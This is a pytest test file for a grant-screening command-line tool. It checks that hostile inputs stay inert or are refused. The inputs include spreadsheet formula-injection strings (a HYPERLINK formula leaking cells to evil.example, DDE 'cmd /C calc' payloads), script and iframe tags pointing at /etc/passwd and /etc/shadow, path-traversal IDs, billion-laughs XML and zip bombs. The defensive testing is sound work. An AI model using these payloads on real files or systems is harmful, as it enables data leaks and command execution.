"""Hostile content through the whole product: it is screened as inert text or refused, never acted on.

Formula injection stays text in every output; HTML, script and URLs stay text in the memo; project IDs that are
paths cannot leave the output folder; XML entities and zip bombs are refused before parsing; limits name
themselves and how to raise them.
"""

from __future__ import annotations

import csv
import shutil
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest
from corpus import CASES, PARTNERS_HEADER, PROJECTS_HEADER, RawSheet, billion_laughs, good_round, raw_xlsx

from collabscreen.inputs import read_inputs

AS_OF = "2026-11-28"
CLI = str(Path(sys.executable).with_name("collabscreen"))
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A1",
    "=1+1",
]


def run(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([CLI, *args], capture_output=True, text=True, cwd=cwd, timeout=300)


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def assert_inert_csv(path: Path) -> None:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        for row in csv.reader(fh):
            for cell in row:
                assert not cell.startswith(FORMULA_START), (path.name, cell)


def test_formula_injection_is_read_as_text_and_written_inert(tmp_path):
    projects = [PROJECTS_HEADER] + [[f"P{i}", text, text] for i, text in enumerate(INJECTIONS, start=1)]
    partners = [PARTNERS_HEADER] + [[f"P{i}", text, text] for i, text in enumerate(INJECTIONS, start=1)]
    partners.append(["=EVIL()", "Harbin Institute of Technology", "China"])  # rejected: unknown project
    # Inline strings: text cells that start with "=", as an export or a hostile sender writes them.
    path = raw_xlsx(tmp_path / "inject.xlsx", [RawSheet("Projects", projects), RawSheet("Partners", partners)])

    bundle = read_inputs([path])
    assert [p.title for p in bundle.projects] == INJECTIONS
    assert [p.partner_name for p in bundle.partners] == INJECTIONS

    out = tmp_path / "out"
    result = run("screen", str(path), "--policy", "ca-strac", "--out", str(out), "--as-of", AS_OF, "--no-memos")
    assert result.returncode == 0, result.stderr
    for name in ("decisions.csv", "findings.csv", "rejected.csv"):
        assert_inert_csv(out / name)
    assert [d["title"] for d in read_csv(out / "decisions.csv")] == ["'" + t for t in INJECTIONS]
    assert read_csv(out / "rejected.csv")[0]["reason"] == 'project ID "=EVIL()" is not in the Projects sheet.'

    book = openpyxl.load_workbook(out / "summary.xlsx")  # not data_only: a formula would show as type "f"
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    titles = [ws.cell(row=r, column=2).value for ws in [book["Decisions"]] for r in range(2, 2 + len(INJECTIONS))]
    assert titles == INJECTIONS


def test_formula_injection_in_csv_input(tmp_path):
    path = tmp_path / "projects.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([["Project ID", "Title", "Abstract"],
                                  *[[f"P{i}", t, t] for i, t in enumerate(INJECTIONS, start=1)]])
    out = tmp_path / "out"
    result = run("screen", str(path), "--policy", "ca-strac", "--out", str(out), "--as-of", AS_OF, "--no-memos")
    assert result.returncode == 0, result.stderr
    for name in ("decisions.csv", "findings.csv", "rejected.csv"):
        assert_inert_csv(out / name)


HTML_TITLE = "<script>alert('x')</script> Quantum <b>sensing</b>"
HTML_ABSTRACT = ('<img src="file:///etc/passwd"> See http://evil.example/a and <a href="http://evil.example/b">'
                 "click</a>; <iframe src='file:///etc/shadow'></iframe> &amp; done.")
HTML_PARTNER = '<a href="file:///etc/passwd">Harbin Institute of Technology</a>'
PATH_IDS = ["../../etc/passwd", "/tmp/absolute", "..\\..\\windows\\system32"]


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """One screen with memos: HTML and URLs in names and abstracts, project IDs that are paths."""
    folder = tmp_path_factory.mktemp("hostile")
    projects = [PROJECTS_HEADER, [PATH_IDS[0], HTML_TITLE, HTML_ABSTRACT], [PATH_IDS[1], "Soil", "Soil carbon."],
                [PATH_IDS[2], "Rice", "Rice."]]
    partners = [PARTNERS_HEADER, [PATH_IDS[0], HTML_PARTNER, "China"]]
    path = raw_xlsx(folder / "hostile.xlsx", [RawSheet("Projects", projects), RawSheet("Partners", partners)])
    out = folder / "run" / "out"
    result = run("screen", str(path), "--policy", "ca-strac", "--out", str(out), "--as-of", AS_OF, "--workers", "1",
                 cwd=folder)
    assert result.returncode == 0, result.stderr
    return folder, out


def test_project_ids_that_are_paths_stay_inside_the_memos_folder(hostile_run):
    folder, out = hostile_run
    memos = sorted(p.name for p in (out / "memos").iterdir())
    assert memos == ["etc_passwd.pdf", "tmp_absolute.pdf", "windows_system32.pdf"]
    everything = sorted(str(p.relative_to(folder)) for p in folder.rglob("*") if p.is_file())
    assert all(p == "hostile.xlsx" or p.startswith("run/out/") for p in everything), everything
    decisions = read_csv(out / "decisions.csv")
    assert [(d["project_id"], d["memo"]) for d in decisions] == [
        ("../../etc/passwd", "memos/etc_passwd.pdf"), ("/tmp/absolute", "memos/tmp_absolute.pdf"),
        ("..\\..\\windows\\system32", "memos/windows_system32.pdf")]


def test_html_script_and_urls_are_inert_text_in_the_memo(hostile_run):
    pypdf = pytest.importorskip("pypdf")
    _, out = hostile_run
    memo = out / "memos" / "etc_passwd.pdf"
    reader = pypdf.PdfReader(str(memo))
    # No link annotations and no JavaScript: none of the input's markup became a live element.
    for page in reader.pages:
        for annot in page.get("/Annots") or []:
            action = annot.get_object().get("/A") or {}
            assert "/URI" not in action and "/JS" not in action, action
    assert "/JavaScript" not in str(reader.trailer["/Root"].get_object())
    if shutil.which("pdftotext"):
        text = subprocess.run(["pdftotext", "-layout", str(memo), "-"], capture_output=True, text=True).stdout
    else:
        text = "\n".join(page.extract_text() for page in reader.pages)
    flat = " ".join(text.split())
    assert "<script>alert('x')</script>" in flat
    assert 'src="file:///etc/passwd">' in flat
    assert "http://evil.example/a" in flat


def test_entity_expansion_is_refused_even_past_the_pre_check():
    """openpyxl parses worksheets with defusedxml, the second line behind the DTD check."""
    import defusedxml
    from openpyxl.xml import functions

    assert functions.iterparse.__module__.startswith("defusedxml")
    assert issubclass(defusedxml.EntitiesForbidden, ValueError)


def test_openpyxl_alone_refuses_a_billion_laughs_sheet(tmp_path):
    import defusedxml

    path = raw_xlsx(tmp_path / "laughs.xlsx", [RawSheet("Projects", [PROJECTS_HEADER, ["P1", "&lol9;"]],
                                                        prolog=billion_laughs())])
    with pytest.raises(ValueError) as caught:
        book = openpyxl.load_workbook(path, read_only=True)
        list(book.worksheets[0].values)
    error = caught.value
    assert isinstance(error, defusedxml.DefusedXmlException) or isinstance(error.__cause__,
                                                                           defusedxml.DefusedXmlException)


@pytest.mark.parametrize("name", ["zip-bomb", "file-too-big", "too-many-rows", "billion-laughs-sheet"])
def test_refused_files_exit_1_with_the_message_and_no_traceback(tmp_path, name):
    case = CASES[name]
    paths = case.build(tmp_path)
    result = run("screen", *map(str, paths), "--policy", "ca-strac", "--out", str(tmp_path / "out"),
                 "--as-of", AS_OF, "--no-memos", *case.extra_args)
    assert result.returncode == 1
    assert result.stderr == f"error: {case.error}\n"
    assert "Traceback" not in result.stdout + result.stderr
    assert not (tmp_path / "out").exists()


def test_raising_the_limits_lets_the_file_through(tmp_path):
    path = good_round(tmp_path / "r.xlsx")
    out = tmp_path / "out"
    result = run("screen", str(path), "--policy", "ca-strac", "--out", str(out), "--as-of", AS_OF, "--no-memos",
                 "--max-rows", "2")
    assert result.returncode == 1
    result = run("screen", str(path), "--policy", "ca-strac", "--out", str(out), "--as-of", AS_OF, "--no-memos",
                 "--max-rows", "3", "--max-file-mb", "1", "--max-cell-chars", "100")
    assert result.returncode == 0, result.stderr


def test_a_long_cell_is_rejected_in_rejected_csv_and_counted_in_run_json(tmp_path):
    import json

    paths = CASES["long-cell"].build(tmp_path)
    out = tmp_path / "out"
    result = run("screen", *map(str, paths), "--policy", "ca-strac", "--out", str(out), "--as-of", AS_OF,
                 "--no-memos")
    assert result.returncode == 0, result.stderr
    rows = read_csv(out / "rejected.csv")
    assert [(r["sheet"], r["row"], r["column"], r["header"], r["reason"]) for r in rows] == [
        ("Projects", "2", "C", "Abstract", "the cell holds 20,001 characters, over the 20,000-character limit."),
        ("Partners", "2", "A", "Project ID", 'project "P1" was rejected (long.xlsx › sheet "Projects" › row 2, column '
                                            'C ("Abstract")), so this row was not screened either.'),
    ]
    counts = json.loads((out / "run.json").read_text())["counts"]
    assert [(c["sheet"], c["rows_read"], c["rows_screened"], c["rows_rejected"]) for c in counts] == [
        ("Projects", 2, 1, 1), ("Partners", 2, 1, 1)]


def test_control_characters_never_reach_the_terminal_or_the_workbook(tmp_path):
    paths = CASES["control-characters"].build(tmp_path)
    out = tmp_path / "out"
    result = run("screen", *map(str, paths), "--policy", "ca-strac", "--out", str(out), "--as-of", AS_OF,
                 "--no-memos")
    assert result.returncode == 0, result.stderr
    assert "\x1b" not in result.stdout + result.stderr
    book = openpyxl.load_workbook(out / "summary.xlsx")
    assert book["Decisions"]["B2"].value == "Soil [31mRED[0m evil"
